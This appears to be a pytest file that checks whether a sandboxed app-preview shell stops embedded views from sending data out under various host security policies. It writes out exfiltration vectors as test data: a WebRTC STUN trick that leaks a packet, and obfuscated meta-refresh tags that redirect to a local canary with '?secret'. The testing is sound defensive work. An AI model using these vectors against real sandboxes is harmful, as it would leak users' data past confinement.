"""What leaves a view: nothing, by whichever way out is tried, under each policy hosts are known to use (U6).

Every way out is also tried in a page without a shell, so that one which is only misspelt would be found. Defence in
depth, tried in one browser: what holds here is not proof for another.
"""

from collections.abc import Callable, Mapping

import pytest

from connecta.local.preview.policies import VIEWS
from connecta.views.shell import SHELL_HTML
from tests.apps.canary import Canary, listening_canary
from tests.apps.driver import Driver, Last, Plain, Report, Scenario, Until
from tests.apps.payloads import payload
from tests.apps.vectors import LEAVING, MARKUP, SCRIPTS, SENT, Vector, markup_page, script_page

REQUEST, PACKET = "the last request", "the last packet"
SCRIPTLESS = [vector for vector in MARKUP if not vector.scripted]
POLICIES = sorted(VIEWS)
SILENT = {"frame element", "frame element, then sent", "frame element in a shadow tree"}
"""For a frame's address the browser opens a connection before it asks the policy, and then says nothing on it."""


def confined(host: Driver, canary: Canary, html: str, policy: str, until: Until | None = None) -> Report:
    """What came of ``html``, as soon as everything that another page sent after it has arrived."""
    last = Last(canary.ports[REQUEST], canary.ports[PACKET])
    shown = until or Until(text=SENT)
    report = host.play(Scenario(shown, shell=SHELL_HTML, result=payload(html), policy=VIEWS[policy], last=last))
    assert canary.wait_for_sent([REQUEST, PACKET]) == set()
    assert (report.executed, report.complaints.popups, report.complaints.refused_by_host) == ([], [], [])
    return report


def names(vectors: list[Vector]) -> list[str]:
    return [*(vector.name for vector in vectors), REQUEST, PACKET]


def test_no_canary_is_given_a_number_of_one_before_it() -> None:
    given: list[int] = []
    for _ in range(10):
        with listening_canary(map(str, range(100))) as canary:
            given.extend(canary.ports.values())
    assert len(given) == len(set(given))


@pytest.mark.parametrize("policy", POLICIES)
@pytest.mark.parametrize("vectors", [SCRIPTLESS, MARKUP], ids=["without a script", "with scripts"])
def test_nothing_that_markup_names_is_loaded(host: Driver, policy: str, vectors: list[Vector]) -> None:
    with listening_canary(names(vectors)) as canary:
        confined(host, canary, markup_page(vectors, canary.ports), policy)
        assert canary.names() == {REQUEST, PACKET}, canary.arrived()


@pytest.mark.parametrize("policy", POLICIES)
def test_nothing_that_a_script_tries_reaches_the_network(host: Driver, policy: str) -> None:
    with listening_canary(names(SCRIPTS)) as canary:
        report = confined(host, canary, script_page(SCRIPTS, canary.ports), policy)
        said = [heard for heard in canary.arrived() if heard.sent]
        silent = canary.names() - {heard.name for heard in said}
    assert {heard.name for heard in said} == {REQUEST, PACKET}, said
    assert silent <= SILENT
    assert len(report.payload.text.splitlines()) == 1 + len(SCRIPTS)


@pytest.mark.parametrize("vector", LEAVING, ids=lambda vector: vector.name)
def test_a_view_that_leaves_takes_nothing_along(host: Driver, vector: Vector) -> None:
    """Where the host has no policy, so that all of it is the shell's. The browser opens a connection for a navigation
    before it asks the shell's policy; nothing is ever sent on it."""
    leaves(host, vector, "none")


@pytest.mark.parametrize("policy", ["spec", "claude"])
@pytest.mark.parametrize("name", ["address", "page of data", "page of its own code", "page opened anew, then filled"])
def test_a_view_that_leaves_under_a_policy_of_the_host_takes_nothing_along(
    host: Driver, policy: str, name: str
) -> None:
    leaves(host, next(vector for vector in LEAVING if vector.name == name), policy)


def leaves(host: Driver, vector: Vector, policy: str) -> None:
    with listening_canary(names([vector])) as canary:
        confined(host, canary, script_page([vector], canary.ports), policy, Until("view", text=""))
        assert canary.sent() == {REQUEST, PACKET}


def proven(vectors: list[Vector]) -> set[str]:
    return {vector.name for vector in vectors if vector.unproven is None}


@pytest.mark.parametrize(
    ("vectors", "page"), [(MARKUP, markup_page), (SCRIPTS, script_page)], ids=["markup", "scripts"]
)
def test_the_canary_hears_every_way_out_of_a_page_without_a_shell(
    host: Driver, vectors: list[Vector], page: Callable[[list[Vector], Mapping[str, int]], str]
) -> None:
    """So each of them would be heard above. The few that this browser takes nowhere say why (``unproven``): it may
    open a connection for them, and says nothing on it."""
    with listening_canary(names(vectors)) as canary:
        host.look(Plain(page(vectors, canary.ports), until=SENT))
        assert canary.wait_for(proven(vectors)) == set()
        assert canary.sent() <= proven(vectors)


def test_the_canary_hears_every_page_that_leaves_without_a_shell(host: Driver) -> None:
    with listening_canary(names(LEAVING)) as canary:
        for vector in LEAVING:
            host.look(Plain(script_page([vector], canary.ports)))
            assert canary.wait_for_sent(proven([vector])) == set()
        assert canary.sent() == proven(LEAVING)


def test_the_canary_hears_a_view_that_takes_no_such_care(host: Driver) -> None:
    """The same host and its strictest policy: without the shell's care a packet goes out."""
    with listening_canary([REQUEST, PACKET, "peer"]) as canary:
        shell = CARELESS.replace("$PORT", str(canary.ports["peer"]))
        host.play(Scenario(Until("view", text="offered"), shell=shell))
        assert canary.wait_for_sent(["peer"]) == set()


CARELESS = """<!doctype html><body><script>
  addEventListener("message", ({ data }) => {
    if (data.id === 1) parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized", params: {} }, "*");
  });
  parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/initialize", params: {
    appInfo: { name: "careless", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26" } }, "*");
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:$PORT" }] });
  peer.createDataChannel("d");
  peer.setLocalDescription().then(() => document.body.append("offered"));
</script>"""


REFRESHES = (
    "<meta http-equiv='refresh' content='$TO'>",
    "<META HTTP-EQUIV=Refresh CONTENT='$TO'>",
    "<meta/http-equiv\f=\n'refresh'/content='$TO'/>",
    "<meta content='$TO'http-equiv\t=refresh>",
    "<meta name='>' http-equiv=refresh content='$TO'>",
    "<meta http-equiv=refresh http-equiv=x content='$TO'>",
)


def test_markup_that_would_send_the_view_elsewhere_leaves_it_where_it_is(host: Driver) -> None:
    with listening_canary(["refresh", REQUEST, PACKET]) as canary:
        address = f"0;url=http://127.0.0.1:{canary.ports['refresh']}/?secret"
        html = "".join(REFRESHES).replace("$TO", address)
        report = confined(host, canary, f"{html}<p>{SENT}", "none")
        assert canary.names() == {REQUEST, PACKET}
    assert report.payload.text == SENT


@pytest.mark.parametrize("refresh", REFRESHES)
def test_the_canary_hears_such_markup_in_a_page_without_a_shell(host: Driver, refresh: str) -> None:
    with listening_canary(["refresh"]) as canary:
        to = f"0;url=http://127.0.0.1:{canary.ports['refresh']}/?secret"
        host.look(Plain(refresh.replace("$TO", to)))
        assert canary.wait_for_sent(["refresh"]) == set()
